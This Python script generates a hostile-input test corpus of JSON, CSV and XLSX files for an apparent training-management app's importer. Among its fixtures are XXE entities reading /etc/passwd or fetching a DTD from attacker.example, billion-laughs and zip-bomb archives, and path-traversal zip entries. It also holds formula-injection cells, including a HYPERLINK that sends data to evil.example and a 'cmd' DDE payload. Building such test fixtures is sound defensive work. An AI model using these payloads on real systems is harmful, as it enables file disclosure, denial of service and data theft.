#!/usr/bin/env python3
"""Writes the committed part of the hostile-input corpus (see manifest.tsv).

Not run by the build: the files it writes are committed. Large cases (100 MB strings, 500,001 rows,
a 600 MB file) are not written here; HostileInputTest generates them into a temp folder from the
recipes named in the manifest. Run from this folder:  python3 make-corpus.py
Three inputs were made once with Apache POI and are committed under xlsx/: base.xlsx (a plain
workbook, read as the valid case), encrypted.xlsx (the same, encrypted with password "secret") and
legacy-xls-renamed.xlsx (an old binary .xls with the .xlsx extension).
"""
import os
import random
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
rnd = random.Random(7)


def write(path, data):
    full = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, 'wb') as f:
        f.write(data if isinstance(data, bytes) else data.encode('utf-8'))


# ---------------------------------------------------------------- JSON
EXAMPLE = '''{
  "formatVersion" : 1,
  "app" : "LearnOps Studio",
  "exportedAt" : "2026-02-01T10:00:00Z",
  "scope" : {
    "strategy" : { "name" : "Learning Ops 2027", "sponsor" : "Ada Sponsor", "owner" : "Olu Owner",
                   "organisation" : "BUSINESS_AREA", "businessArea" : "Retail", "geography" : "REGIONAL",
                   "authorityNotes" : "Signed off by the board" },
    "regions" : [ { "id" : 1, "name" : "EMEA", "sortOrder" : 0 } ],
    "activityAreas" : [ { "id" : 10, "builtIn" : null, "customName" : "Coaching", "inScope" : false,
                          "rationale" : "", "impact" : 3, "effort" : 3, "sortOrder" : 10 } ]
  },
  "stakeholders" : {
    "stakeholders" : [ { "id" : 1, "name" : "Mia Lead", "role" : "Head of L&D", "group" : "SENIOR_LEADER",
                         "businessArea" : "Retail", "region" : "EMEA", "influence" : 5, "interest" : 4,
                         "stance" : "CHAMPION" } ]
  },
  "operations" : {
    "people" : [ { "id" : 1, "name" : "Leo Learner", "businessArea" : "Retail", "region" : "EMEA",
                   "facilitator" : false, "participant" : true, "coordinator" : false } ],
    "rooms" : [ ],
    "courses" : [ { "id" : 1, "title" : "Coaching basics", "activityArea" : 10, "format" : "IN_PERSON",
                    "defaultDurationMinutes" : 90, "owner" : null } ],
    "events" : [ { "id" : 1, "course" : 1, "coordinator" : null, "businessArea" : "Retail", "region" : "EMEA",
                   "capacity" : 12, "minimumEnrolment" : 0, "status" : "OPEN", "startsOn" : "2026-03-02",
                   "endsOn" : "2026-03-20", "cancelReason" : null, "cancelledAt" : null, "cancelledBy" : null } ],
    "enrolments" : [ { "id" : 1, "event" : 1, "person" : 1, "status" : "ENROLLED",
                       "enrolledAt" : "2026-02-01T10:00", "statusChangedAt" : "2026-02-01T10:00",
                       "waitlistPosition" : 0, "wasWaitlisted" : false } ]
  }
}
'''


def sub(old, new, count=1):
    assert old in EXAMPLE, old
    return EXAMPLE.replace(old, new, count)


json_cases = {
    'truncated.json': EXAMPLE[:len(EXAMPLE) // 2],
    'truncated-in-string.json': EXAMPLE[:EXAMPLE.index('Mia Lead') + 3],
    'empty.json': '',
    'whitespace-only.json': '  \n\t\n ',
    'deep-nesting-arrays.json': '[' * 5000 + ']' * 5000,
    'deep-nesting-objects.json': '{"formatVersion":1,"scope":' + '{"a":' * 200 + '1' + '}' * 200 + '}',
    'duplicate-key-top.json': sub('"formatVersion" : 1,', '"formatVersion" : 1, "formatVersion" : 1,'),
    'duplicate-key-record.json': sub('"name" : "Mia Lead",', '"name" : "Mia Lead", "name" : "Mallory",'),
    'format-version-string.json': sub('"formatVersion" : 1', '"formatVersion" : "1"'),
    'format-version-2.json': sub('"formatVersion" : 1', '"formatVersion" : 2'),
    'format-version-float.json': sub('"formatVersion" : 1', '"formatVersion" : 1.0'),
    'format-version-missing.json': sub('"formatVersion" : 1,\n', ''),
    'format-version-negative.json': sub('"formatVersion" : 1', '"formatVersion" : -1'),
    'unknown-top-field.json': sub('"app" : "LearnOps Studio",', '"app" : "LearnOps Studio", "macros" : "run me",'),
    'unknown-record-field.json': sub('"stance" : "CHAMPION"', '"stance" : "CHAMPION", "password" : "hunter2"'),
    'path-as-field-name.json': sub('"stance" : "CHAMPION"', '"stance" : "CHAMPION", "../../../etc/passwd" : "x"'),
    'path-as-step-name.json': sub('"stakeholders" : {', '"../stakeholders" : {'),
    'wrong-type-number-as-string.json': sub('"capacity" : 12', '"capacity" : "12"'),
    'wrong-type-array-for-object.json': sub('"scope" : {', '"scope" : [ {').replace('\n  },\n  "stakeholders"', '\n  } ],\n  "stakeholders"', 1),
    'wrong-type-object-for-array.json': sub('"rooms" : [ ]', '"rooms" : { }'),
    'wrong-type-boolean-as-number.json': sub('"facilitator" : false', '"facilitator" : 0'),
    'wrong-type-root-string.json': '"just a string"',
    'wrong-type-root-array.json': '[ ' + EXAMPLE + ' ]',
    'number-huge.json': sub('"capacity" : 12', '"capacity" : 99999999999999999999999999'),
    'number-too-many-digits.json': sub('"capacity" : 12', '"capacity" : ' + '9' * 1500),
    'number-negative-id.json': sub('"id" : 1, "name" : "Leo Learner"', '"id" : -1, "name" : "Leo Learner"'),
    'bad-date.json': sub('"startsOn" : "2026-03-02"', '"startsOn" : "2026-02-30"'),
    'bad-choice.json': sub('"stance" : "CHAMPION"', '"stance" : "OVERLORD"'),
    'null-required.json': sub('"name" : "Mia Lead"', '"name" : null'),
    'missing-field.json': sub('"role" : "Head of L&D", ', ''),
    'dangling-reference.json': sub('"person" : 1,', '"person" : 99,'),
    'duplicate-id.json': sub('"rooms" : [ ],', '"rooms" : [ ],').replace(
        '"coordinator" : false } ],', '"coordinator" : false },\n { "id" : 1, "name" : "Eve Twin", "businessArea" : "Retail", '
        '"region" : "EMEA", "facilitator" : false, "participant" : true, "coordinator" : false } ],', 1),
    'trailing-content.json': EXAMPLE + '\n{ "formatVersion" : 1 }\n',
    'steps-out-of-order.json': EXAMPLE[:EXAMPLE.index(',\n  "operations"')].replace(
        '"formatVersion" : 1,', '"formatVersion" : 1, "operations" : { "people" : [ ] },') + '\n}\n',
    'too-long-name.json': sub('"name" : "Mia Lead"', '"name" : "' + 'M' * 5000 + '"'),
    'nan-number.json': sub('"capacity" : 12', '"capacity" : NaN'),
    'comment.json': '// exported by LearnOps Studio\n' + EXAMPLE,
    'raw-control-in-string.json': sub('"Mia Lead"', '"Mia\tLead"'),
    'xml-with-entities.json': '<?xml version="1.0"?>\n<!DOCTYPE x [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<x>&xxe;</x>\n',
    'single-quotes.json': "{ 'formatVersion' : 1 }",
}
for name, text in json_cases.items():
    write('json/' + name, text)

write('json/nul-bytes.json', EXAMPLE.replace('Mia Lead', 'Mia\x00Lead').encode('utf-8'))
write('json/invalid-utf8.json', EXAMPLE.encode('utf-8').replace(b'Mia Lead', b'Mia \xc3\x28 \xff Lead'))
write('json/bom-then-xml.json', b'\xef\xbb\xbf<?xml version="1.0"?><workshop/>')
write('json/utf16-without-version.json', sub('"formatVersion" : 1,\n', '').encode('utf-16'))
write('json/binary-garbage.json', bytes(rnd.randrange(256) for _ in range(4096)))
write('json/zip-renamed.json', open(os.path.join(HERE, 'xlsx/base.xlsx'), 'rb').read())
# Read and imported as text: nothing in a workshop file is used as a path, and exports neutralise formulas.
write('json/accepted-formula-and-path-text.json', sub('"name" : "Mia Lead"', '"name" : "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"Click\\")"')
      .replace('"role" : "Head of L&D"', '"role" : "@SUM(1+1)*cmd|\' /C calc\'!A0"')
      .replace('"name" : "Leo Learner"', '"name" : "../../../etc/passwd"')
      .replace('"title" : "Coaching basics"', '"title" : "+1+1"'))
write('json/accepted-bom.json', b'\xef\xbb\xbf' + EXAMPLE.encode('utf-8'))

# ---------------------------------------------------------------- CSV
HEADER = 'Name,Region,Seats\r\n'
csv_cases = {
    'empty.csv': b'',
    'bom-only.csv': b'\xef\xbb\xbf',
    'blank-lines-only.csv': b'\r\n\r\n\n',
    'nul-bytes.csv': (HEADER + 'Ada\x00Lovelace,EMEA,12\r\n').encode(),
    'utf16le.csv': (HEADER + 'Ada Lovelace,EMEA,12\r\n').encode('utf-16'),
    'invalid-utf8-latin1.csv': (HEADER + 'Ada Lovelace,EMEA,12\r\n').encode() + 'Jörg Müller,EMEA,3\r\n'.encode('latin-1'),
    'invalid-utf8-overlong.csv': (HEADER + 'Ada ').encode() + b'\xc0\xaf' + b',EMEA,12\r\n',
    'invalid-utf8-surrogate.csv': (HEADER + 'Ada ').encode() + b'\xed\xa0\x80' + b',EMEA,12\r\n',
    'binary-garbage.csv': bytes(rnd.randrange(256) for _ in range(4096)),
    'garbage-without-nul.csv': bytes(rnd.randrange(1, 256) for _ in range(4096)).replace(b'\n', b'\xff'),
    'zip-renamed.csv': open(os.path.join(HERE, 'xlsx/base.xlsx'), 'rb').read(),
    'unclosed-quote.csv': (HEADER + '"Ada Lovelace,EMEA,12\r\nGrace Hopper,Americas,8\r\n').encode(),
    'unclosed-quote-bom.csv': b'\xef\xbb\xbf' + (HEADER + 'Ada,"EMEA\r\n').encode(),
    'text-after-closing-quote.csv': (HEADER + '"Ada" Lovelace,EMEA,12\r\n').encode(),
    'stray-quote.csv': (HEADER + 'Ada "The Countess" Lovelace,EMEA,12\r\n').encode(),
    'ragged-rows.csv': (HEADER + 'Ada Lovelace,EMEA,12\r\nGrace Hopper,Americas\r\n').encode(),
    'extra-column.csv': (HEADER + 'Ada Lovelace,EMEA,12,=1+1\r\n').encode(),
    'too-many-columns.csv': (','.join('c%d' % i for i in range(300)) + '\r\n').encode(),
    'duplicate-header.csv': ('Name,Region,name\r\nAda,EMEA,x\r\n').encode(),
    'terminal-escape.csv': (HEADER + 'Ada \x1b[2J\x1b]0;pwned\x07,EMEA,12\r\n').encode(),
}
for name, data in csv_cases.items():
    write('csv/' + name, data)
write('csv/accepted-formula-looking.csv', (
    'Name,Region,Notes\r\n'
    '"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",EMEA,=1+1\r\n'
    '+41 44 000 00 00,-EMEA,@SUM(A1:A2)\r\n'
    '"\tTabbed","\rCarriage",=cmd|\' /C calc\'!A0\r\n'
    '../../etc/passwd,"multi\nline, with comma","quote "" inside"\r\n').encode())
write('csv/accepted-bom-lf.csv', b'\xef\xbb\xbf' + 'Name,Region,Seats\nJörg Müller,EMEA,3\n'.encode())

# ---------------------------------------------------------------- XLSX
with zipfile.ZipFile(os.path.join(HERE, 'xlsx/base.xlsx')) as z:
    BASE = {info.filename: z.read(info.filename) for info in z.infolist()}

NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'


def sheet(rows_xml, prolog=''):
    return ('<?xml version="1.0" encoding="UTF-8"?>' + prolog + '<worksheet xmlns="' + NS + '"><sheetData>'
            + rows_xml + '</sheetData></worksheet>').encode()


def inline(ref, text):
    return '<c r="%s" t="inlineStr"><is><t xml:space="preserve">%s</t></is></c>' % (ref, text)


def xlsx(name, replace=None, extra=None, drop=(), order=None):
    parts = dict(BASE)
    for p in drop:
        parts.pop(p)
    parts.update(replace or {})
    with zipfile.ZipFile(os.path.join(HERE, 'xlsx', name), 'w', zipfile.ZIP_DEFLATED) as z:
        for part, data in parts.items():
            z.writestr(part, data)
        for part, data in (extra or {}).items():
            z.writestr(part, data)


HEAD_ROW = '<row r="1">' + inline('A1', 'Name') + inline('B1', 'Region') + inline('C1', 'Seats') + '</row>'
XXE = '<!DOCTYPE x [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>'
CT = BASE['[Content_Types].xml'].decode()
WB_RELS = BASE['xl/_rels/workbook.xml.rels'].decode()

xlsx('xxe-shared-strings.xlsx', {'xl/sharedStrings.xml': BASE['xl/sharedStrings.xml'].decode()
     .replace('<?xml version="1.0" encoding="UTF-8"?>', '<?xml version="1.0" encoding="UTF-8"?>' + XXE)
     .replace('<t>Ada Lovelace</t>', '<t>&xxe;</t>').encode()})
xlsx('xxe-sheet.xlsx', {'xl/worksheets/sheet1.xml': sheet(HEAD_ROW + '<row r="2">' + inline('A2', '&xxe;') + '</row>', XXE)})
xlsx('xxe-content-types.xlsx', {'[Content_Types].xml': CT.replace('?>', '?>' + XXE, 1).encode()})
xlsx('xxe-parameter-entity.xlsx', {'xl/worksheets/sheet1.xml': sheet(HEAD_ROW,
     '<!DOCTYPE x [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>')})
laughs = '<!DOCTYPE x [ <!ENTITY l0 "ha">' + ''.join(
    '<!ENTITY l%d "%s">' % (i, ('&l%d;' % (i - 1)) * 10) for i in range(1, 10)) + ' ]>'
xlsx('billion-laughs.xlsx', {'xl/worksheets/sheet1.xml': sheet(HEAD_ROW + '<row r="2">' + inline('A2', '&l9;') + '</row>', laughs)})

# A zip bomb: 100 MB of one repeated row compresses to a few hundred KB (ratio far below POI's 1 %).
bomb_row = '<row>' + inline('A2', 'x' * 1000) + '</row>'
with zipfile.ZipFile(os.path.join(HERE, 'xlsx/zip-bomb.xlsx'), 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as z:
    for part, data in BASE.items():
        if part != 'xl/worksheets/sheet1.xml':
            z.writestr(part, data)
    with z.open('xl/worksheets/sheet1.xml', 'w', force_zip64=True) as w:
        w.write(('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="' + NS + '"><sheetData>' + HEAD_ROW).encode())
        block = (bomb_row * 1000).encode()
        for _ in range(100):
            w.write(block)
        w.write(b'</sheetData></worksheet>')

xlsx('path-traversal-entry.xlsx', extra={'../../../../tmp/evil.sh': b'#!/bin/sh\necho pwned\n'})
xlsx('path-traversal-nested.xlsx', extra={'xl/worksheets/../../../evil.xml': b'<x/>'})
xlsx('absolute-path-entry.xlsx', extra={'/etc/cron.d/evil': b'* * * * * root true\n'})
xlsx('windows-path-entry.xlsx', extra={'..\\..\\evil.bat': b'echo pwned\r\n'})
xlsx('macro-enabled-renamed.xlsm.xlsx',
     {'[Content_Types].xml': CT.replace('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
                                        'application/vnd.ms-excel.sheet.macroEnabled.main+xml')
      .replace('</Types>', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>').encode(),
      'xl/_rels/workbook.xml.rels': WB_RELS.replace('</Relationships>',
          '<Relationship Id="rId9" Target="vbaProject.bin" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/></Relationships>').encode()},
     extra={'xl/vbaProject.bin': b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + bytes(504)})
xlsx('vba-project-hidden.xlsx',
     {'[Content_Types].xml': CT.replace('</Types>', '<Override PartName="/xl/vbaProject.bin" ContentType="application/octet-stream"/></Types>').encode()},
     extra={'xl/vbaProject.bin': b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + bytes(504)})
xlsx('no-workbook-part.xlsx', drop=['xl/workbook.xml'])
xlsx('no-content-types.xlsx', drop=['[Content_Types].xml'])
xlsx('malformed-sheet-xml.xlsx', {'xl/worksheets/sheet1.xml': sheet(HEAD_ROW + '<row r="2"><c r="A2" t="inlineStr"><is><t>unclosed')[:-30]})
xlsx('too-many-columns.xlsx', {'xl/worksheets/sheet1.xml': sheet(HEAD_ROW + '<row r="2">' + inline('KN2', 'far right') + '</row>')})
xlsx('cell-too-long.xlsx', {'xl/worksheets/sheet1.xml': sheet(HEAD_ROW + '<row r="2">' + inline('A2', 'L' * 40000) + '</row>')})
xlsx('value-outside-header.xlsx', {'xl/worksheets/sheet1.xml': sheet(HEAD_ROW + '<row r="2">' + inline('A2', 'Ada') + inline('F2', 'hidden') + '</row>')})
xlsx('duplicate-header.xlsx', {'xl/worksheets/sheet1.xml': sheet('<row r="1">' + inline('A1', 'Name') + inline('B1', 'NAME') + '</row>')})
xlsx('empty-sheet.xlsx', {'xl/worksheets/sheet1.xml': sheet('')})
write('xlsx/empty.xlsx', b'')
write('xlsx/binary-garbage.xlsx', bytes(rnd.randrange(256) for _ in range(4096)))
write('xlsx/csv-renamed.xlsx', HEADER + 'Ada Lovelace,EMEA,12\r\n')
write('xlsx/truncated.xlsx', open(os.path.join(HERE, 'xlsx/base.xlsx'), 'rb').read()[:1500])
# Read as text: formula-looking strings stay text, a formula cell gives its cached value, never evaluated.
xlsx('accepted-formula-looking.xlsx', {'xl/worksheets/sheet1.xml': sheet(
    '<row r="1">' + inline('A1', 'Name') + inline('B1', 'Region') + inline('C1', 'Notes') + '</row>'
    + '<row r="2">' + inline('A2', '=HYPERLINK(&quot;http://evil.example/&quot;,&quot;Click&quot;)') + inline('B2', '+EMEA')
    + '<c r="C2" t="str"><f>HYPERLINK("http://evil.example/","Click me")</f><v>Click me</v></c></row>'
    + '<row r="3">' + inline('A3', '@SUM(A1:A2)') + inline('B3', '-1') + '<c r="C3"><f>1+1</f><v>7</v></c></row>'
    + '<row r="5">' + inline('A5', '\tTabbed') + inline('B5', '&#13;Carriage') + inline('C5', '../../etc/passwd') + '</row>')})
